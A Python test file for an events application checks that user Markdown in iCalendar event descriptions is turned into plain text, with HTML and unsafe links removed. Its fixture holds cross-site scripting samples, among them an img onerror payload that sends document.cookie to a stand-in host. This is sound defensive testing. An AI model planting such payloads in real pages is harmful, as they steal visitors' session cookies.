"""Issue 13, item 4: no user HTML in an iCalendar DESCRIPTION (Google and Outlook.com render it as HTML).

DESCRIPTION is plain text made from the Markdown: links as "text (url)", raw HTML and unsafe links dropped.
"""
from __future__ import annotations

import email
import re
from email import policy

import icalendar
from sqlalchemy import select

from eventsapp import links
from eventsapp.events.models import Visibility
from eventsapp.invitations import services
from eventsapp.mail.models import OutboxMessage
from eventsapp.mail.renderers import render
from tests.factories import AssociationFactory, ContactFactory, EventFactory, InvitationFactory
from tests.support.icaljs import assert_valid_ics

HOSTILE = """**Chào mừng** bà con <script>alert('xss')</script> về quê ăn Tết.

<img src=x onerror="fetch('https://evil.example/?c='+document.cookie)">

Chi tiết tại [trang của Hội](https://hoi.example.vn/tet) và [bấm đây](javascript:alert(1)).
"""
EXPECTED = "Chào mừng bà con về quê ăn Tết.\n\nChi tiết tại trang của Hội (https://hoi.example.vn/tet) và bấm đây."


def descriptions(ics: bytes) -> list[str]:
    assert_valid_ics(ics)
    return [str(component["DESCRIPTION"]) for component in icalendar.Calendar.from_ical(ics).walk("VEVENT")]


def assert_plain(description: str) -> None:
    for forbidden in ("<script", "alert(", "onerror", "<img", "javascript:", "**", "document.cookie"):
        assert forbidden not in description, (forbidden, description)
    assert re.sub(" +", " ", description).startswith(EXPECTED), description


def test_feeds_public_ics_and_invitation_calendars_carry_plain_text(client, db):
    association = AssociationFactory(slug="hoi-lich")
    event = EventFactory(association=association, visibility=Visibility.PUBLIC, description_vi=HOSTILE)
    contact = ContactFactory(associations=[association])
    invitation = InvitationFactory(event=event, contact=contact)

    for url in ("/feeds/associations/hoi-lich.ics", f"/e/{event.slug}.ics",
                links.personal_feed_url(contact).replace("http://eventsapp.test", ""),
                f"/rsvp/{invitation.token}/event.ics"):
        if "personal" in url:
            invitation.status = services.InvitationStatus.ACCEPTED
            db.session.commit()
        response = client.get(url)
        assert response.status_code == 200, url
        for description in descriptions(response.data):
            assert_plain(description)

    pending = InvitationFactory(event=event, contact=ContactFactory(associations=[association]))
    services.send_invitations(event.id)
    db.session.commit()
    message = db.session.scalar(select(OutboxMessage).where(OutboxMessage.invitation_id == pending.id))
    mail = email.message_from_bytes(bytes(render(message)), policy=policy.default)
    calendars = [part.get_content() for part in mail.walk()
                 if part.get_content_type() in ("text/calendar", "application/ics")]
    assert calendars
    for body in calendars:
        for description in descriptions(body.encode("utf-8") if isinstance(body, str) else body):
            assert_plain(description)


def test_a_very_long_reader_zone_on_the_public_page_is_ignored(client, db):
    """?tz= of 10,000 characters made ZoneInfo raise OSError (file name too long): a 500."""
    event = EventFactory(visibility=Visibility.PUBLIC)
    response = client.get(f"/e/{event.slug}?tz={'x' * 10_000}")
    assert response.status_code == 200 and event.title_vi in response.text
